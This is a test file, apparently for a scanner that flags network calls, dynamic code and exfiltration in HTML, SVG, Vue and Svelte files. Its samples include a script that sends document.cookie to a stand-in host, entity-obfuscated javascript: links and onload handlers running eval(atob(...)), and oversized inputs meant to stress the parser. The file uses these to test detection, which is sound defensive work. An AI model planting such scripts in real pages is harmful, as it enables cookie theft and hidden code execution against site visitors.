from __future__ import annotations

import pytest

from fimci.model import Capability, Unread
from fimci.readers import with_code
from fimci.readers.code import html
from tests import growth


def told(text: str, path: str = "docs/a.html") -> list[tuple[str, str, int]]:
    found = html.read(path, text.encode())
    return [(one.name, one.subject, one.at.line) for one in found if isinstance(one, Capability)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<p>\n<script>\n\nfetch('https://in.example/a')</script>", ("network", "in.example", 4)),
        ("<p>\n<body\n  onload=\"eval(atob('MQ=='))\">", ("dynamic-code", "decoded", 2)),
        ("<a href=\"java&Tab;script&colon;eval(atob('MQ=='))\">", ("dynamic-code", "decoded", 1)),
        ("<a href=\"java&#x73;cript:eval(atob('MQ=='))\">", ("dynamic-code", "decoded", 1)),
        ('\n<script src="//cdn.example/a.js"></script>', ("network", "cdn.example", 2)),
        (
            "<p>\n<script>\nfetch('https://in.example/?' + document.cookie)\n</script>",
            ("exfiltration", "secret -> in.example", 3),
        ),
        ("\ufeff<script>fetch('https://in.example/ä')</script>", ("network", "in.example", 1)),
    ],
)
def test_what_scripts_can_do(text: str, expected: tuple[str, str, int]) -> None:
    assert expected in told(text)


def test_scripts_in_utf16_are_read() -> None:
    data = "<script>fetch('https://in.example/a')</script>".encode("utf-16")
    assert [one.subject for one in html.read("a.html", data) if isinstance(one, Capability)] == ["in.example"]


def test_a_page_runs_when_opened_and_a_component_when_imported() -> None:
    text = b"<script>fetch('https://in.example/a')</script>"
    phases = {path: next(html.read(path, text)) for path in ("a.html", "a.svg", "a.vue", "a.svelte")}
    assert {path: one.phase for path, one in phases.items() if isinstance(one, Capability)} == {
        "a.html": "call",
        "a.svg": "call",
        "a.vue": "import",
        "a.svelte": "import",
    }


def test_a_script_that_does_not_end_hides_no_other() -> None:
    text = "<script>/* `</script>\n<script>fetch('https://in.example/a')</script>"
    assert ("network", "in.example", 2) in told(text)


def test_types_of_typescript_are_read() -> None:
    text = "<script setup lang='ts'>\nconst a: string = 'https://in.example/a'\nfetch(a)</script>"
    assert ("network", "in.example", 3) in told(text, "a.vue")


def test_documentation_is_silent() -> None:
    text = "<p onclick='show()'>fetch(x)</p><script>window.x = 1; init(document)</script>" * 50
    assert told(text) == []


def test_one_record_for_each_name_and_subject() -> None:
    text = "<script src=https://in.example/a.js></script><script>fetch('https://in.example/a')</script>"
    assert told(text) == [("network", "in.example", 1)]


def test_what_is_too_much_is_told() -> None:
    found = list(html.read("a.html", b"<script>f()</script>" * 2001))
    assert [one.part for one in found if isinstance(one, Unread)] == ["scripts"]


@pytest.mark.parametrize(
    "text",
    [
        "<a " * 300_000,
        "on" * 1_000_000,
        "&#x73;" * 200_000,
        "<b on" * 200_000,
        "<b>onx=" * 100_000,
        "<!-" * 300_000,
    ],
)
def test_hostile_pages_take_linear_time(text: str) -> None:
    growth.is_linear_in(told, text)


def test_pages_have_a_reader() -> None:
    assert "html" in [reader.name for reader in with_code("a/b.svg")]
